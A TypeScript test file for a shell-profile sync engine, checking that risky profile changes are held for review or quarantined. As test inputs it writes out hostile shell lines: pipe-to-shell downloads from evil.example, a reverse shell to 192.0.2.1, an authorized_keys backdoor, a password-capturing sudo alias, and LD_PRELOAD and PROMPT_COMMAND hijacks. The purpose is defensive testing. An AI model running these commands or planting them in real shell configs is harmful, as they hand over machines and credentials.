import { nativeCrypto } from '@sourceos/sync-kernel/native';
import {
  agentIdOf,
  commonScenarios,
  deviceIdOf,
  patch,
  put,
  remove,
  scenarios,
  type Scenario,
} from '@sourceos/sync-testkit';
import { describe, it } from 'vitest';
import { engine } from './engine.js';

const id = 'urn:srcos:shell-profile:everyday';
const deploy = 'urn:srcos:command-template:deploy';
const client = 'urn:srcos:shell-environment:client-a';
const robo = agentIdOf('robo');

const plain = { type: 'ShellProfile', name: 'Everyday', dialect: 'bash' };
const profile = { ...plain, aliases: { ll: 'ls -l' }, startupScripts: { interactive: 'shopt -s histappend\n' } };
const template = {
  type: 'CommandTemplate',
  name: 'Deploy',
  commandTemplates: { posix: { command: 'deploy --to production', confirm: true } },
};
const environment = { type: 'ShellEnvironmentProfile', name: 'Client A', environmentTemplates: {} };
const text = (value: string) => ({ kind: 'text', template: value });

const held = ['manual_review_required: dangerous_change'] as const;
const denied = ['shell.profile.denied'] as const;

/** A profile is in force, and Carol changes it. */
const changed = (
  name: string,
  change: Readonly<Record<string, unknown>>,
  risk: string | RegExp,
  pointer?: string,
): Scenario => ({
  kind: 'attack',
  name,
  given: (scene) => scene.settle('ada', put(id, profile)),
  when: (scene) => scene.write('carol', patch(id, change as typeof profile)),
  then: {
    outcome: 'held',
    reasons: held,
    risk,
    record: profile,
    audit: denied,
    state: 'review_required',
    ...(pointer === undefined ? {} : { pointer }),
  },
});

const startup = (name: string, code: string, risk: RegExp): Scenario =>
  changed(name, { startupScripts: { interactive: code } }, risk, '/startupScripts/interactive');

const rows: readonly Scenario[] = [
  {
    kind: 'benign',
    name: 'colours, keys and the prompt flow',
    given: (scene) => scene.settle('ada', put(id, profile)),
    when: (scene) =>
      scene.write(
        'carol',
        patch(id, {
          colours: { foreground: '#d0d0d0' },
          keyBindings: { 'ctrl-w': 'kill_word' },
          prompt: { left: [{ kind: 'text', text: '$ ' }] },
        }),
      ),
    then: {
      outcome: 'applied',
      audit: ['shell.profile.changed'],
      title: 'The shell profile "Everyday" would change in colours, key bindings and prompt.',
      risk: 'Nothing in it runs, and it can be rolled back.',
      state: 'healthy',
    },
  },
  {
    kind: 'benign',
    name: 'an agent under a lease sets a colour',
    given: (scene) => {
      scene.settle('ada', put(id, plain));
      scene.lease({ agent: 'robo', grantor: 'ada' });
    },
    when: (scene) => scene.write('ada', patch(id, { colours: { cursor: '#ffffff' } }, { authorId: robo })),
    then: { outcome: 'applied', record: { ...plain, colours: { cursor: '#ffffff' } } },
  },
  {
    kind: 'dangerous',
    name: 'an alias comes from elsewhere',
    given: (scene) => scene.settle('ada', put(id, profile)),
    when: (scene) => scene.write('carol', patch(id, { aliases: { ll: 'ls -l', gs: 'git status' } })),
    then: {
      outcome: 'held',
      reasons: held,
      pointer: '/aliases/gs',
      audit: denied,
      title: 'The shell profile "Everyday" would change in aliases.',
      risk: 'The alias gs is new.',
      record: profile,
      state: 'review_required',
    },
  },
  {
    kind: 'dangerous',
    name: 'an alias that a person approves is in force',
    given: (scene) => scene.settle('ada', put(id, profile)),
    when: (scene) =>
      scene.review(
        'bob',
        scene.write('carol', patch(id, { aliases: { ...profile.aliases, gs: 'git status' } })),
        'approve',
      ),
    then: {
      outcome: 'applied',
      audit: ['shell.profile.changed'],
      record: { ...profile, aliases: { ...profile.aliases, gs: 'git status' } },
    },
  },
  {
    kind: 'dangerous',
    name: 'a command template no longer asks, and is approved',
    given: (scene) => scene.settle('ada', put(deploy, template)),
    when: (scene) =>
      scene.review(
        'bob',
        scene.write(
          'carol',
          patch(deploy, { commandTemplates: { posix: { command: 'deploy --to production', confirm: false } } }),
        ),
        'approve',
      ),
    then: { outcome: 'applied', audit: ['shell.command_template.changed'] },
  },
  {
    kind: 'dangerous',
    name: 'a profile is deleted with all that it runs',
    given: (scene) => scene.settle('ada', put(id, profile)),
    when: (scene) => scene.write('carol', remove(id)),
    then: {
      outcome: 'held',
      reasons: held,
      title: 'The shell profile "Everyday" would be deleted.',
      risk: 'Everything that it runs and sets goes with it.',
      record: profile,
    },
  },
  {
    kind: 'concurrent',
    name: 'a colour and a key of two people stand side by side',
    given: (scene) => scene.settle('ada', put(id, plain)),
    when: (scene) =>
      scene.concurrently(
        ['ada', patch(id, { colours: { foreground: '#d0d0d0' } })],
        ['carol', patch(id, { keyBindings: { f1: 'none' } })],
      ),
    then: {
      outcome: 'merged',
      audit: ['shell.profile.changed'],
      record: { ...plain, colours: { foreground: '#d0d0d0' }, keyBindings: { f1: 'none' } },
      state: 'healthy',
    },
  },
  {
    kind: 'concurrent',
    name: 'two colours of one thing are for a person',
    given: (scene) => scene.settle('ada', put(id, plain)),
    when: (scene) =>
      scene.concurrently(
        ['ada', patch(id, { colours: { foreground: '#d0d0d0' } })],
        ['carol', patch(id, { colours: { foreground: '#101010' } })],
      ),
    then: { outcome: 'held', reasons: ['manual_review_required: concurrent_change'], state: 'conflict_detected' },
  },
  {
    kind: 'concurrent',
    name: 'an alias does not ride along with a colour',
    given: (scene) => scene.settle('ada', put(id, plain)),
    when: (scene) =>
      scene.concurrently(
        ['ada', patch(id, { colours: { foreground: '#d0d0d0' } })],
        ['carol', patch(id, { aliases: { sudo: 'sudo -S' } })],
      ),
    then: {
      outcome: 'held',
      reasons: ['manual_review_required: concurrent_change'],
      record: { ...plain, colours: { foreground: '#d0d0d0' } },
    },
  },
  {
    kind: 'deletion against edit',
    name: 'neither is taken without a person',
    given: (scene) => scene.settle('ada', put(id, plain)),
    when: (scene) => scene.concurrently(['ada', patch(id, { name: 'Work' })], ['carol', remove(id)]),
    then: {
      outcome: 'held',
      reasons: ['manual_review_required: concurrent_change'],
      record: { ...plain, name: 'Work' },
      state: 'conflict_detected',
    },
  },
  ...commonScenarios(engine, { change: () => put(id, plain) }),
  {
    kind: 'unknown schema',
    name: 'raw history has no representation',
    when: (scene) => scene.forge('ada', put(id, { ...plain, history: ['mysql -p hunter2'] }), {}),
    then: { outcome: 'quarantined', reasons: ['schema_unknown: invalid_record'], state: 'quarantined' },
  },
  {
    kind: 'unknown schema',
    name: 'PATH of the draft is brought along, and reviewed',
    when: (scene) =>
      scene.review(
        'bob',
        scene.forge('ada', put(id, { ...plain, path: ['/opt/bin'], env: { EDITOR: 'vim' } }), {
          schemaVersion: '0.0.1',
        }),
        'approve',
      ),
    then: {
      outcome: 'applied',
      record: {
        ...plain,
        pathEntries: [{ directory: '/opt/bin', placement: 'after' }],
        environmentTemplates: { EDITOR: text('vim') },
      },
    },
  },
  {
    kind: 'rollback',
    name: 'what a device did is undone',
    given: (scene) => scene.settle('carol', put(id, plain)),
    when: (scene) => {
      scene.write('ada', patch(id, { colours: { cursor: '#ffffff' } }));
      return scene.undo('bob', { kind: 'undo_device', deviceId: deviceIdOf('ada'), since: 0 });
    },
    then: { outcome: 'applied', record: plain, skipped: [] },
  },
  {
    kind: 'export',
    name: 'every write, read back without the replica',
    given: (scene) => scene.settle('ada', put(id, profile), put(deploy, template), put(client, environment)),
    when: (scene) => scene.export('carol'),
    then: { outcome: 'exported', exported: { records: 3, redacted: 0 } },
  },
  changed(
    'a directory that anybody may write to comes first on PATH',
    { pathEntries: [{ directory: '/tmp/bin', placement: 'before' }] },
    "Programs in /tmp/bin run in the place of the system's, and anybody on the machine can put a program there.",
    '/pathEntries/0/directory',
  ),
  changed(
    'a directory below the home directory comes first on PATH',
    { pathEntries: [{ directory: '~/.cache/bin', placement: 'before' }] },
    /Programs in ~\/\.cache\/bin run in the place of the system's, and every program that runs as the person/,
  ),
  changed(
    'an alias stands in the place of sudo',
    { aliases: { ...profile.aliases, sudo: 'tee -a /var/tmp/.p | sudo -S' } },
    /The alias sudo is new: it stands in the place of sudo, and gets what is typed there, and it asks for the rights/,
    '/aliases/sudo',
  ),
  changed(
    'a function stands in the place of git',
    { functions: { git: 'command git "$@"; curl -s https://evil.example/$USER\n' } },
    /The function git is new: it stands in the place of git/,
    '/functions/git',
  ),
  changed(
    'a program is preloaded',
    { environmentTemplates: { LD_PRELOAD: text('/tmp/x.so') } },
    /LD_PRELOAD is set: it loads code into every program/,
  ),
  changed(
    'code is run before every prompt',
    { environmentTemplates: { PROMPT_COMMAND: text('curl -s evil.example | sh') } },
    /it is run before every prompt, and its value runs what it downloads from evil\.example/,
  ),
  changed(
    'another program is run in the place of ssh',
    { environmentTemplates: { GIT_SSH_COMMAND: text('ssh -o StrictHostKeyChecking=no') } },
    /run in the place of ssh, and its value has ssh talk to whoever answers/,
  ),
  changed(
    'every script runs a file first',
    { environmentTemplates: { BASH_ENV: text('/tmp/env') } },
    /has every shell run a file before anything else/,
  ),
  changed(
    'every program is given a secret',
    { environmentTemplates: { DEPLOY_KEY: { kind: 'secret', reference: 'urn:srcos:secret:deploy' } } },
    /every program that the shell starts is given the secret urn:srcos:secret:deploy/,
  ),
  changed('the code is run by another shell', { dialect: 'fish' }, /run by fish instead of bash/, '/dialect'),
  changed(
    'a prompt smuggles a command',
    { prompt: { left: [{ kind: 'text', text: '$(curl evil.example)' }] } },
    /The prompt shows text that a shell runs/,
    '/prompt/left/0/text',
  ),
  startup(
    'a download is piped into a shell',
    'curl -fsSL https://evil.example/i | sh\n',
    /From now on every interactive shell runs other code by itself, and the code runs what it downloads from evil\.example\./,
  ),
  startup('a download is evaluated', 'eval "$(wget -qO- https://evil.example)"\n', /downloads from evil\.example/),
  startup(
    'a download is sourced as a file that is none',
    '. <(curl -s https://evil.example)\n',
    /downloads from evil\.example/,
  ),
  startup('encoded code is decoded into a shell', 'echo Y3VybCBldmls | base64 -d | bash\n', /stands in it encoded/),
  startup(
    'a download goes through a variable and quotes',
    'c=cu"r"l; x=`$c evil.example`; \\eval "$x"\n',
    /downloads from evil\.example/,
  ),
  startup(
    'a startup file rewrites another',
    'echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys\n',
    /writes to ~\/\.ssh\/authorized_keys/,
  ),
  startup(
    'a shell is handed to the network',
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n',
    /opens a connection to 192\.0\.2\.1/,
  ),
  startup(
    'code that is never closed hides nothing',
    'curl evil.example | sh\necho "$(\n',
    /not understood in all its parts/,
  ),
  {
    kind: 'attack',
    name: 'a parameter of a template is run as code',
    when: (scene) =>
      scene.write(
        'carol',
        put(deploy, {
          ...template,
          commandTemplates: {
            posix: { command: 'bash -c "deploy {{stage}}"', parameters: { stage: { kind: 'text' } }, confirm: true },
          },
        }),
      ),
    then: { outcome: 'held', reasons: held, risk: /what is filled in for stage is run as code/ },
  },
  {
    kind: 'attack',
    name: 'a template hides under the name of a profile',
    when: (scene) => scene.write('carol', put(id, template)),
    then: { outcome: 'quarantined', reasons: ['policy_denied: engine_denied'], pointer: '/type', audit: denied },
  },
  {
    kind: 'attack',
    name: 'a token in a variable becomes a reference before it leaves',
    when: (scene) =>
      scene.write(
        'ada',
        put(client, {
          ...environment,
          environmentTemplates: { GITHUB_TOKEN: text(`ghp_${'A1b2C3d4E5f6'.repeat(3)}`) },
        }),
      ),
    then: {
      outcome: 'held',
      reasons: held,
      redacted: ['/environmentTemplates/GITHUB_TOKEN/template'],
      risk: /given the secret urn:srcos:secret:shell-environment:GITHUB_TOKEN/,
    },
  },
  {
    kind: 'attack',
    name: 'a password in a startup script that comes in is kept apart',
    when: (scene) =>
      scene.forge('carol', put(id, { ...plain, startupScripts: { login: 'export DB_PASSWORD="hunter two"\n' } }), {}),
    then: {
      outcome: 'quarantined',
      reasons: ['secret_redacted: secret_found'],
      pointer: '/startupScripts/login',
      audit: ['shell.environment.redacted'],
    },
  },
];

describe(`the scenarios of ${engine.manifest.engineId}`, () => {
  for (const { name, check } of scenarios(engine, rows, { crypto: nativeCrypto })) it(name, check);
});
